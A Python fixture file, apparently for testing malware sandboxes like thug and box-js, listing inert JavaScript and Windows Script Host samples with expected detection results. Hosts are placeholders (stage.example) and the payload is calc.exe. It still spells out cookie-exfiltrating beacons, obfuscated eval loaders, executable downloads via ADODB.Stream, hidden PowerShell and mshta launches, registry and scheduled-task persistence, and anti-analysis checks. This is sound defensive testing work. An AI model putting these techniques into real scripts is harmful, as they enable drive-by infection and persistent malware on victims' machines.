"""What scripts of attackers are made of, as thug and box-js have it in their documentation and as samples in public
reports do it: each written anew, inert, with names that do not exist (RFC 2606).
"""

from __future__ import annotations

import base64
import html
from typing import NamedTuple


class Construct(NamedTuple):
    """A script, and what the run must show: a list of `SandboxFacts`, and a part of one of its targets."""

    name: str
    script: str
    seen_in: str
    target: str


HOST = "http://stage.example/"
RUN = 'new ActiveXObject("WScript.Shell").Run("calc.exe");'
PAGES = (
    Construct(
        "iframe written", f"document.write('<iframe src=\"{HOST}a\" width=1 height=1></iframe>');", "network", "a"
    ),
    Construct(
        "iframe appended",
        f"var f = document.createElement('iframe'); f.src = '{HOST}b'; document.body.appendChild(f);",
        "network",
        "b",
    ),
    Construct(
        "script appended",
        f"var s = document.createElement('script'); s.setAttribute('src', '{HOST}c.js');"
        "document.getElementsByTagName('head')[0].appendChild(s);",
        "network",
        "c.js",
    ),
    Construct("image as a beacon", f"new Image().src = '{HOST}d?' + escape(document.cookie);", "network", "d?"),
    Construct("location set", f"window.location = '{HOST}e';", "network", "e"),
    Construct("location replaced", f"top.location.replace('{HOST}f');", "network", "f"),
    Construct("location by href", f"self['loc' + 'ation']['hr' + 'ef'] = '{HOST}g';", "network", "g"),
    Construct("timer with a text", f"setTimeout(\"location.href = '{HOST}h'\", 3000);", "network", "h"),
    Construct(
        "interval until it is ready",
        f"var n = 0, t = setInterval(function () {{ if (++n > 3) {{ clearInterval(t);location = '{HOST}i'; }} }}, 50);",
        "network",
        "i",
    ),
    Construct("handler of the load", f"window.onload = function () {{ location = '{HOST}j'; }};", "network", "j"),
    Construct(
        "listener of the load",
        f"document.addEventListener('DOMContentLoaded', function () {{ location = '{HOST}k'; }});",
        "network",
        "k",
    ),
    Construct(
        "request of a page",
        f"var x = new XMLHttpRequest(); x.open('GET', '{HOST}l', true); x.onreadystatechange = function () {{"
        "if (x.readyState == 4) eval('location = \"" + HOST + "l2\"'); }; x.send(null);",
        "network",
        "l2",
    ),
    Construct("fetch", f"fetch('{HOST}m').then(function (r) {{ return r.text(); }}).then(eval);", "network", "m"),
    Construct("unescape and eval", f"eval(unescape('{''.join(f'%{ord(c):02x}' for c in RUN)}'));", "processes", "calc"),
    Construct("eval by another name", f"var e = window['ev' + 'al']; e({RUN!r});", "processes", "calc"),
    Construct(
        "text of an element",
        '<html><body><div id="d" style="display:none">' + RUN.encode().hex() + "</div><script>"
        "var h = document.getElementById('d').innerHTML, s = '';"
        "for (var i = 0; i < h.length; i += 2) s += String.fromCharCode(parseInt(h.substr(i, 2), 16)); eval(s);"
        "</script></body></html>",
        "processes",
        "calc",
    ),
    Construct(
        "value of a hidden field",
        f'<form name="f"><input type="hidden" name="p" value="{html.escape(RUN)}"></form>'
        "<script>eval(document.f.p.value);</script>",
        "processes",
        "calc",
    ),
    Construct(
        "references to characters in an element",
        f"<p id=p hidden>{''.join(f'&#{ord(letter)};' for letter in RUN)}</p>"
        "<script>window.onload = function () { eval(document.getElementById('p').innerText); };</script>",
        "processes",
        "calc",
    ),
    Construct(
        "script that is none",
        f'<script type="text/plain" id="s">{base64.b64encode(RUN.encode()).decode()}</script>'
        "<script>var all = document.getElementsByTagName('script'); eval(atob(all[0].text));</script>",
        "processes",
        "calc",
    ),
    Construct(
        "attributes of elements",
        f"<meta name=a content='{RUN[:9]}'><i class='c d' data-next-part='{RUN[9:]}'></i>"
        "<script>eval(document.querySelector('meta[name=a]').content + "
        "document.getElementsByClassName('c')[0].dataset.nextPart);</script>",
        "processes",
        "calc",
    ),
    Construct(
        "page in a text area",
        f"<textarea id=t>&lt;script&gt;{RUN}&lt;/script&gt;</textarea>"
        "<script>document.write(document.getElementById('t').value);</script>",
        "processes",
        "calc",
    ),
    Construct(
        "element that is a variable of Basic",
        '<html><span id="Line" style="display:none">calc.exe</span><script language="VBScript">'
        'CreateObject("WScript.Shell").Run line.innerText\n</script></html>',
        "processes",
        "calc",
    ),
    Construct(
        "its own text as a key",
        "function k(a) { var t = arguments.callee.toString().replace(/\\W/g, ''), s = '';"
        "for (var i = 0; i < a.length; i++) s += String.fromCharCode(a[i] ^ (t.length % 7 * 0)); return s; }"
        f"eval(k([{','.join(str(ord(c)) for c in RUN)}]));",
        "processes",
        "calc",
    ),
    Construct(
        "object of data access",
        "var o = document.createElement('object');"
        "o.setAttribute('classid', 'clsid:BD96C556-65A3-11D0-983A-00C04FC29E36');"
        f"var x = o.CreateObject('Microsoft.XMLHTTP', ''); x.open('GET', '{HOST}n.exe', false); x.send();",
        "network",
        "n.exe",
    ),
    Construct(
        "spray of the heap",
        "var s = unescape('%u9090%u9090'), b = new Array(); while (s.length < 4096) s += s;"
        f"for (var i = 0; i < 100; i++) b[i] = s + i; location = '{HOST}o';",
        "network",
        "o",
    ),
    Construct(
        "browser that is asked for",
        "var is = navigator.userAgent.toLowerCase().indexOf('msie') > 0 || 'ActiveXObject' in window;"
        f"if (is) location = '{HOST}p';",
        "network",
        "p",
    ),
    Construct(
        "Basic in a page",
        '<html><script language="VBScript">Set s = CreateObject("WScript.Shell")\n'
        's.Run "calc.exe", 0\n</script></html>',
        "processes",
        "calc",
    ),
    Construct(
        "conditional comment of the engine",
        f"/*@cc_on @*/ /*@if (@_jscript_version >= 5) {RUN} @end @*/",
        "processes",
        "calc",
    ),
    Construct(
        "page in a page",
        "document.write(unescape('%3Cscript%3E') + \"document.write('<script>location=\\\""
        + HOST
        + 'q\\"<\\\\/script>\')"'
        " + unescape('%3C/script%3E'));",
        "network",
        "q",
    ),
    Construct("address of a script", f"location = 'javascript:location=\"{HOST}r\"';", "network", "r"),
)
"""Of pages, as thug's documentation has them."""

SHELL = 'var sh = new ActiveXObject("WScript.Shell");'
SCRIPTS = (
    Construct(
        "one of several hosts",
        'var u = ["no.example", "stage.example"], x = WScript.CreateObject("MSXML2.XMLHTTP");'
        'for (var i in u) { try { x.open("GET", "http://" + u[i] + "/counter?id=" + i, false); x.send();'
        "if (i == 1) break; } catch (e) {} }",
        "network",
        "stage.example/counter?id=1",
    ),
    Construct(
        "stream that is saved",
        'var x = new ActiveXObject("WinHttp.WinHttpRequest.5.1"); x.Open("GET", "' + HOST + 'a.exe", 0); x.Send();'
        'var s = new ActiveXObject("ADODB.Stream"); s.Mode = 3; s.Type = 1; s.Open(); s.Write(x.ResponseBody);'
        's.SaveToFile("C:\\\\Users\\\\Public\\\\a.exe", 2); s.Close();',
        "files",
        "a.exe",
    ),
    Construct(
        "text file that is run",
        'var f = new ActiveXObject("Scripting.FileSystemObject"), p = f.GetSpecialFolder(2) + "\\\\r.bat";'
        'var t = f.CreateTextFile(p, true); t.WriteLine("start calc"); t.Close(); ' + SHELL + "sh.Run(p, 0, true);",
        "processes",
        "r.bat",
    ),
    Construct(
        "name of a temporary file",
        'var f = WScript.CreateObject("Scripting.FileSystemObject");'
        'f.OpenTextFile(f.BuildPath(f.GetSpecialFolder(2), f.GetTempName() + ".js"), 2, true).Write("x");',
        "files",
        ".js",
    ),
    Construct(
        "shell of applications",
        'new ActiveXObject("Shell.Application").ShellExecute("powershell", "-w hidden -c iwr '
        + HOST
        + 'b", "", "open", 0);',
        "processes",
        "-w hidden",
    ),
    Construct(
        "process by WMI",
        'GetObject("winmgmts:root\\\\cimv2:Win32_Process").Create("mshta ' + HOST + 'c", null, null, 0);',
        "processes",
        "mshta",
    ),
    Construct(
        "start of a process by WMI, hidden",
        'var w = GetObject("winmgmts:{impersonationLevel=impersonate}!\\\\.\\root\\cimv2");'
        'var c = w.Get("Win32_ProcessStartup").SpawnInstance_(); c.ShowWindow = 0;'
        'w.Get("Win32_Process").Create("calc.exe", null, c, 0);',
        "processes",
        "calc",
    ),
    Construct(
        "processes of analysts",
        'var e = new Enumerator(GetObject("winmgmts:").ExecQuery("SELECT * FROM Win32_Process"));'
        "for (; !e.atEnd(); e.moveNext()) if (e.item().Name == 'procmon.exe') WScript.Quit();"
        + SHELL
        + 'sh.Run("calc");',
        "evasion",
        "Win32_Process",
    ),
    Construct(
        "key that starts it again",
        SHELL + r'sh.RegWrite("HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce\\a", "calc", "REG_SZ");',
        "persistence",
        "RunOnce",
    ),
    Construct(
        "task that starts it again",
        SHELL + r'sh.Exec("schtasks.exe /Create /F /SC MINUTE /MO 5 /TN a /TR calc");',
        "persistence",
        "schtasks",
    ),
    Construct(
        "link in the folder of starts",
        SHELL
        + r'var l = sh.CreateShortcut(sh.SpecialFolders("Startup") + "\\a.lnk"); l.TargetPath = "calc"; l.Save();',
        "persistence",
        "a.lnk",
    ),
    Construct(
        "environment of the process",
        SHELL + 'sh.Run(sh.Environment("Process")("APPDATA") + "\\\\a.exe");',
        "processes",
        "Roaming\\a.exe",
    ),
    Construct(
        "names from pieces",
        'var a = this["Act" + "iveX" + "Object"]; var s = new a("WSc" + "ript.Sh" + "ell");s["R" + "un"]("ca" + "lc");',
        "processes",
        "calc",
    ),
    Construct(
        "words in the wrong order",
        'function r(t) { return t.split("").reverse().join(""); }'
        f'new ActiveXObject(r("{"WScript.Shell"[::-1]}"))[r("nuR")](r("clac"));',
        "processes",
        "calc",
    ),
    Construct(
        "noise between the letters",
        'function q(t) { return t.replace(/[0-9#]/g, ""); }'
        'new ActiveXObject(q("W1S#c2r3i#p4t.5S#h6e7ll")).Run(q("c9a#lc"));',
        "processes",
        "calc",
    ),
    Construct(
        "decoder of base64 of its own",
        'var A = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";'
        "function d(t) { var o = '', b = 0, n = 0; for (var i = 0; i < t.length; i++) { var v = A.indexOf(t.charAt(i));"
        "if (v < 0) break; b = (b << 6) | v; n += 6; if (n >= 8) { n -= 8; o += String.fromCharCode((b >> n) & 255);"
        'b &= (1 << n) - 1; } } return o; } new ActiveXObject(d("V1NjcmlwdC5TaGVsbA==")).Run(d("Y2FsYw=="));',
        "processes",
        "calc",
    ),
    Construct(
        "method put to all texts",
        "String.prototype.x = function (k) { var o = ''; for (var i = 0; i < this.length; i++)"
        "o += String.fromCharCode(this.charCodeAt(i) ^ k); return o; };"
        f'new ActiveXObject("{"".join(chr(ord(c) ^ 3) for c in "WScript.Shell")}".x(3)).Run("`bo`".x(3));',
        "processes",
        "calc",
    ),
    Construct("constructor of functions", f"[]['filter']['constructor']({RUN!r})();", "processes", "calc"),
    Construct(
        "control of scripts",
        'var c = new ActiveXObject("MSScriptControl.ScriptControl"); c.Language = "VBScript";'
        'c.ExecuteStatement(\'CreateObject("WScript.Shell").Run "calc"\');',
        "processes",
        "calc",
    ),
    Construct(
        "base64 by an element",
        'var e = new ActiveXObject("Msxml2.DOMDocument").createElement("b"); e.dataType = "bin.base64";'
        'e.text = "TVqQAAMAAAA=";'
        'var s = new ActiveXObject("ADODB.Stream"); s.Type = 1; s.Open(); s.Write(e.nodeTypedValue);'
        's.SaveToFile("C:\\\\Users\\\\Public\\\\d.exe");',
        "files",
        "d.exe",
    ),
    Construct(
        "document from the network",
        'var d = new ActiveXObject("Msxml2.DOMDocument.6.0"); d.async = false; d.load("' + HOST + 'e.xml");',
        "network",
        "e.xml",
    ),
    Construct(
        "arguments that it waits for",
        "if (WScript.Arguments.length > 0 && WScript.Arguments(0) == 'go') " + RUN,
        "waits",
        "",
    ),
    Construct("sleep before the deed", "WScript.Sleep(300000); " + SHELL + 'sh.Run("calc");', "processes", "calc"),
    Construct(
        "loop that wastes time",
        "var n = 0; for (var i = 0; i < 200000; i++) { n += i % 3; } if (n > 1) { " + RUN + " }",
        "processes",
        "calc",
    ),
    Construct(
        "loop until the clock has moved",
        "var t = new Date().getTime(); while (new Date().getTime() - t < 2000) {} " + RUN,
        "processes",
        "calc",
    ),
    Construct(
        "file that removes itself",
        'new ActiveXObject("Scripting.FileSystemObject").DeleteFile(WScript.ScriptFullName, true);',
        "files",
        ".js",
    ),
    Construct(
        "value that is read first",
        SHELL + r'try { sh.RegRead("HKLM\\SOFTWARE\\VMware, Inc.\\VMware Tools\\"); } catch (e) { sh.Run("calc"); }',
        "processes",
        "calc",
    ),
    Construct(
        "output of a command",
        SHELL + 'var e = sh.Exec("whoami"); var o = e.StdOut.ReadAll(); sh.Run("cmd /c echo " + o.length);',
        "processes",
        "whoami",
    ),
    Construct(
        "errors on purpose",
        "try { null.x(); } catch (e) { try { throw 'calc'; } catch (f) { " + SHELL + "sh.Run(f); } }",
        "processes",
        "calc",
    ),
    Construct(
        "page by Internet Explorer",
        'var i = new ActiveXObject("InternetExplorer.Application"); i.Visible = false; i.Navigate("' + HOST + 'f");',
        "network",
        "f",
    ),
)
"""Of scripts for Windows Script Host, as box-js runs them."""
